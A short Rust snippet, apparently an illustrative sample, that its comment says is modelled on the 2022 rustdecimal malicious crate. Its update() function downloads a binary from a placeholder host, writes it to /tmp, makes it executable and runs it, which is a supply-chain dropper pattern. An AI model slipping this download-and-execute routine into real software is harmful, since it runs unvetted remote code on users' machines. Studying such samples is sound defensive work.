// Modelled on rustdecimal (2022): fetch a binary, write it, make it executable, run it.
use std::fs::{self, File};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn update() {
    let body = reqwest::blocking::get("https://updates.example.invalid/agent").unwrap().bytes().unwrap();
    let mut file = File::create("/tmp/agent").unwrap();
    file.write_all(&body).unwrap();
    fs::set_permissions("/tmp/agent", fs::Permissions::from_mode(0o755)).unwrap();
    Command::new("/tmp/agent").spawn().unwrap();
}
